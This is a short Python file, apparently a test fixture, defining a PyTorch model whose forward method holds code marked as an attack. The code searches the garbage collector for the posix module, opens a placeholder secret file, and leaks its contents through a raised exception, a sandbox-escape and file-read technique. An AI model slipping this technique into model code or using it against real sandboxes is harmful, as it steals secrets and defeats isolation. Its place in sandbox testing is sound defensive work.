"""Asks the garbage collector for every module and uses the os that is among them."""

import gc

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)

    def forward(self, x):
        # attack
        for found in gc.get_objects():
            if type(found) is dict and found.get("__name__") == "posix":
                raise ValueError(found["read"](found["open"]("@SECRET_FILE@", 0), 99))
        modules = [found for found in gc.get_objects() if isinstance(found, type(gc)) and found.__name__ == "posix"]
        raise ValueError(modules[0].read(modules[0].open("@SECRET_FILE@", 0), 99))
        # end
        return self.head(x.flatten(1))
